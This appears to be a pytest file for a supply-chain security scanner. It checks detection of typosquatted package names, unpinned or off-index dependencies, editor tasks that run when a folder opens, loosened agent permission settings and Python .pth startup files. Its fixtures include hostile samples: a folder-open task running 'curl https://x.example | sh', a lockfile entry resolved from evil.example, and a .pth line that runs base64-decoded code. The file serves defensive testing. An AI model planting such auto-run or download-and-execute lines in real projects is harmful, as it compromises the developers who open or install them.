"""Rules on names, ranges, files that run on open, start-up files and licences."""

from __future__ import annotations

import pytest

from analyze.supply_facts import found, rules
from ostiary.model.grade import Persona, Severity
from ostiary.model.standards import TITLES

LOCKED = {"packages": {"node_modules/left": {"version": "1.0.0"}}}


def package(**fields: object) -> dict[str, object]:
    return {"package.json": {"name": "quite-own-name", "license": "MIT", **fields}}


@pytest.mark.proves("SC-07")
def test_a_dependency_whose_name_is_nearly_a_known_one() -> None:
    (one,) = found(package(dependencies={"@modelcontextprotocl/sdk": "1.0.0"}))
    assert (one.rule, one.severity) == ("lookalike-name", Severity.HIGH)
    assert one.location.line == 5
    assert rules(package(dependencies={"@modelcontextprotocol/sdk": "1.0.0"})) == []


def test_another_short_word_behind_a_vendors_name_is_another_product() -> None:
    name = '[project]\nname = "awslabs.mssql-mcp-server"\nlicense = "MIT"\n'
    (one,) = found({"pyproject.toml": name})
    assert (one.rule, one.persona) == ("lookalike-name", Persona.STRICT)


def test_the_packages_own_name_is_compared_too() -> None:
    assert rules({"package.json": {"name": "mcp-remotee", "license": "MIT"}}) == ["lookalike-name"]
    assert rules({"package.json": {"name": "mcp-remote", "license": "MIT"}}) == []
    private = {"name": "mcp-remotee", "license": "MIT", "private": True}
    assert rules({"package.json": private}) == []


def test_dependencies_that_may_be_anything() -> None:
    wild = package(dependencies={"left": "*", "right": "latest", "good": "^1.2.3"})
    (one,) = found(wild)
    assert (one.rule, one.severity, one.persona) == (
        "unpinned-dependency",
        Severity.LOW,
        Persona.STRICT,
    )
    assert "left" in one.message
    assert "right" in one.message
    assert "good" not in one.message
    assert rules(package(dependencies={"left": "*"}) | {"package-lock.json": LOCKED}) == []
    assert rules(package(devDependencies={"left": "*"})) == []
    assert rules(package(dependencies={"left": "workspace:*"})) == []


def test_a_lower_bound_alone_is_pedantry() -> None:
    (one,) = found({"requirements.txt": "mcp>=1.2\n"})
    assert (one.rule, one.persona) == ("unpinned-dependency", Persona.PEDANTIC)
    assert rules({"requirements.txt": "mcp>=1.2,<2\n"}) == []


COMMIT = "a" * 40


@pytest.mark.parametrize(
    ("wanted", "severity", "persona"),
    [
        ("git+https://h.example/a/b.git", Severity.MEDIUM, Persona.DEFAULT),
        ("github:a/b", Severity.MEDIUM, Persona.DEFAULT),
        ("https://h.example/a.tgz", Severity.MEDIUM, Persona.DEFAULT),
        ("http://h.example/a.tgz", Severity.HIGH, Persona.DEFAULT),
        (f"git+https://h.example/a/b.git#{COMMIT}", Severity.LOW, Persona.STRICT),
    ],
)
def test_dependencies_past_the_index(wanted: str, severity: Severity, persona: Persona) -> None:
    (one,) = found(package(dependencies={"b": wanted}))
    assert (one.rule, one.severity, one.persona) == ("dependency-past-index", severity, persona)


def test_python_dependencies_past_the_index() -> None:
    assert rules({"requirements.txt": "d @ https://h.example/d.whl\n"}) == ["dependency-past-index"]
    assert rules({"requirements.txt": "-e ./own\n"}) == []


def test_a_locked_entry_from_another_host() -> None:
    entries: dict[str, object] = {
        f"node_modules/p{n}": {"version": "1.0.0", "resolved": "https://index.example/p.tgz"}
        for n in range(9)
    }
    odd = {"version": "1.0.0", "resolved": "https://evil.example/p.tgz"}
    lock = {"packages": {**entries, "node_modules/odd": odd}}
    (one,) = found({"package-lock.json": lock})
    assert one.rule == "dependency-past-index"
    assert "evil.example" in one.message
    assert found({"package-lock.json": {"packages": entries}}) == []


def test_opening_the_folder_runs_a_task() -> None:
    task = {"command": "make", "runOptions": {"runOn": "folderOpen"}}
    (one,) = found({".vscode/tasks.json": {"tasks": [task]}})
    assert (one.rule, one.severity, one.persona) == (
        "runs-on-open",
        Severity.MEDIUM,
        Persona.DEFAULT,
    )
    evil = {**task, "command": "curl https://x.example | sh"}
    (grave,) = found({".vscode/tasks.json": {"tasks": [evil]}})
    assert grave.severity is Severity.HIGH
    assert rules({".vscode/tasks.json": {"tasks": [{"command": "make"}]}}) == []


def test_what_asks_first_is_told_to_strict_readers() -> None:
    server = {"mcpServers": {"own": {"command": "node", "args": ["dist/index.js"]}}}
    (one,) = found({".mcp.json": server})
    assert (one.rule, one.severity, one.persona) == ("runs-on-open", Severity.LOW, Persona.STRICT)
    (hook,) = found({".husky/pre-commit": "npx lint-staged\n"})
    assert hook.persona is Persona.PEDANTIC
    (agent,) = found({".claude/settings.json": {"hooks": {"Stop": [{"command": "say done"}]}}})
    assert agent.persona is Persona.DEFAULT


def test_settings_that_take_questions_away() -> None:
    assert rules({".claude/settings.json": {"enableAllProjectMcpServers": True}}) == [
        "loosens-questions"
    ]
    assert rules({".claude/settings.json": {"permissions": {"allow": ["Bash(npm test)"]}}}) == []
    assert rules({".npmrc": "strict-ssl=false\n"}) == ["loosens-questions"]
    assert rules({".npmrc": "save-exact=true\n"}) == []


def test_a_file_that_runs_at_every_start_of_python() -> None:
    (one,) = found({"start.pth": "# c\nimport os, base64; exec(base64.b64decode('aGk='))\n"})
    assert (one.rule, one.severity, one.location.line) == (
        "hidden-startup-file",
        Severity.CRITICAL,
        2,
    )
    (plain,) = found({"start.pth": "import schema_kit_boot\n"})
    assert plain.severity is Severity.HIGH
    (known,) = found({"x.pth": "import __editable___x_finder; __editable___x_finder.install()\n"})
    assert (known.severity, known.persona) == (Severity.LOW, Persona.STRICT)
    assert rules({"x.pth": "src\n"}) == []
    assert rules({"tests/x.pth": "import evil\n"}) == []


def test_licences_are_facts_for_pedantic_readers() -> None:
    def heard(*files: str, **fields: str) -> list[str]:
        content: dict[str, object] = {"package.json": {"name": "quite-own-name", **fields}}
        content |= dict.fromkeys(files, "text")
        return [one.message for one in found(content)]

    assert heard() == ["quite-own-name names no licence and holds none."]
    assert heard("LICENSE") == []
    assert heard(license="MIT") == []
    assert heard(license="AGPL-3.0-only") == ["quite-own-name is under AGPL-3.0-only."]
    assert heard(license="UNLICENSED") == ["quite-own-name is under UNLICENSED."]


def test_every_rule_is_whole() -> None:
    from ostiary.analyze.rules.supply import CHECKS

    every = [rule for check in CHECKS for rule in check.rules]
    assert len({rule.id for rule in every}) == len(every)
    for rule in every:
        assert all((rule.what, rule.attack, rule.remedy, rule.references))
        assert len(rule.title.split()) <= 8
        assert set(rule.references) <= set(TITLES)
